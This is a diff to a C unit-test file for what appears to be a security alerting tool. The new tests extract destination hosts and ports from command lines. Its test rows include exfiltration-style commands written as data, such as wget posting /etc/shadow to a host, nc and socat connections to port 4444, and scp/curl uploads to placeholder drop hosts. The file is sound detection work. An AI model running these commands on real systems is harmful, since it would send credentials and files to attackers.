@@ -11,6 +11,7 @@
 #include "rules/alert/alert.h"
 #include "rules/alert/reason.h"
 #include "rules/alert/seen.h"
+#include "rules/alert/target.h"
 #include "rules/text.h"
 
 #define SCP "{\"@timestamp\":\"2026-06-01T09:14:07Z\"," \
@@ -187,11 +188,120 @@ test_reasons(void **state)
 		e = fixture_event_text(rows[i].json);
 		assert_non_null(e);
 		buf_reset(&out);
-		reason_write(&out, e, 0);
+		reason_write(&out, e, 0, NULL);
 		assert_string_equal(buf_text(&out), rows[i].text);
 		event_unref(e);
 	}
 	buf_fini(&out);
+}
+
+/* A command line; its first word is the program. */
+static bool
+find_target(const char *line, struct target *t)
+{
+	struct wall when = { 0 };
+	struct event *e = event_new(EVENT_PROCESS, when);
+	const char *p = line, *base;
+	bool found;
+	size_t n;
+
+	n = strcspn(p, " ");
+	base = memrchr(p, '/', n);
+	base = base == NULL ? p : base + 1;
+	event_set_str(e, FIELD_PROCESS_NAME, base, (size_t)(p + n - base));
+	if (strncmp(line, "wget-busybox ", 13) == 0) {
+		event_set_cstr(e, FIELD_PROCESS_NAME, "busybox");
+		event_add_str(e, FIELD_PROCESS_ARGS, "wget", 4, false);
+		p += 13;
+	}
+	while (*p != '\0') {
+		n = strcspn(p, " ");
+		event_add_str(e, FIELD_PROCESS_ARGS, p, n, false);
+		p += n;
+		p += strspn(p, " ");
+	}
+	memset(t, 0, sizeof(*t));
+	found = target_find(e, t);
+	event_unref(e);
+	return found;
+}
+
+static void
+test_targets(void **state)
+{
+	static const struct {
+		const char *line, *host;
+		unsigned port;
+	} rows[] = {
+		{ "scp f mallory@203.0.113.9:/tmp/", "203.0.113.9", 22 },
+		{ "scp -P 2222 -i key f drop.example.net:", "drop.example.net",
+		    2222 },
+		{ "scp -P2222 -o User:x f h:/x", "h", 2222 },
+		{ "scp f m@[2001:db8::9]:/x", "2001:db8::9", 22 },
+		{ "scp scp://m@h:2200/x .", "h", 2200 },
+		{ "scp /a/b:c /d", NULL, 0 },
+		{ "sftp -P 222 mallory@h", "h", 222 },
+		{ "sftp mallory@h:/in", "h", 22 },
+		{ "ssh -x -oForwardAgent=no -l mallory h ls", "h", 22 },
+		{ "ssh -p 2222 m@h", "h", 2222 },
+		{ "rsync -a /srv/ m@h:/in/", "h", 0 },
+		{ "rsync -a /srv/ h::in", "h", 873 },
+		{ "rsync -a /srv/ rsync://h/in", "h", 873 },
+		{ "rsync -e ssh /a /b", NULL, 0 },
+		{ "curl -T f http://198.18.0.9/u/", "198.18.0.9", 80 },
+		{ "curl -T f https://h:8443/u/", "h", 8443 },
+		{ "curl -T f ftp://u:p@h/x", "h", 21 },
+		{ "curl -T f https://[2001:db8::9]/x", "2001:db8::9", 443 },
+		{ "curl -T f files.example.org/x", "files.example.org", 80 },
+		{ "curl --version", NULL, 0 },
+		{ "wget --post-file=/etc/shadow http://h/", "h", 80 },
+		{ "wget-busybox --post-file=/etc/shadow http://h/", "h", 80 },
+		{ "nc -w 3 203.0.113.9 4444", "203.0.113.9", 4444 },
+		{ "ncat --ssl h 443", "h", 443 },
+		{ "nc -l 4444", NULL, 0 },
+		{ "socat - TCP:203.0.113.9:4444", "203.0.113.9", 4444 },
+		{ "socat FILE:x openssl:h:443,verify=0", "h", 443 },
+		{ "busybox nc h 1", "h", 1 },
+		{ "/usr/bin/scp f h:", "h", 22 },
+		{ "tar cf - h:", NULL, 0 },
+	};
+	struct target t;
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		if (find_target(rows[i].line, &t) != (rows[i].host != NULL))
+			fail_msg("%s: %s", rows[i].line, t.host);
+		assert_string_equal(t.host, rows[i].host == NULL ? "" :
+		    rows[i].host);
+		assert_int_equal(t.port, rows[i].port);
+	}
+}
+
+static void
+test_target_in_alert(void **state)
+{
+	struct sigma_set *set = rule_set("");
+	struct event *a = make(set, "{\"event.dataset\":"
+	    "\"tallyman.process\",\"process.name\":\"scp\","
+	    "\"process.args\":[\"scp\",\"f\",\"m@203.0.113.9:\"],"
+	    "\"process.command_line\":\"scp f m@203.0.113.9:\","
+	    "\"user.name\":\"root\",\"container.name\":\"c\"}", "k", NULL);
+	struct buf text;
+
+	(void)state;
+	buf_init(&text, 0);
+	assert_string_equal(event_str(a, FIELD_DESTINATION_ADDRESS),
+	    "203.0.113.9");
+	assert_int_equal(event_num(a, FIELD_DESTINATION_PORT), 22);
+	text_add(&text, a, FIELD_DESTINATION_IP);
+	assert_string_equal(buf_text(&text), "203.0.113.9");
+	assert_string_equal(event_str(a, FIELD_EVENT_REASON),
+	    "root ran 'scp f m@203.0.113.9:' in container c, to "
+	    "203.0.113.9:22 as its arguments say");
+	buf_fini(&text);
+	event_unref(a);
+	sigma_free(set);
 }
 
 static void
@@ -333,6 +443,8 @@ main(void)
 		cmocka_unit_test(test_contents),
 		cmocka_unit_test(test_identity),
 		cmocka_unit_test(test_reasons),
+		cmocka_unit_test(test_targets),
+		cmocka_unit_test(test_target_in_alert),
 		cmocka_unit_test(test_texts),
 		cmocka_unit_test(test_gaps),
 		cmocka_unit_test(test_keys),
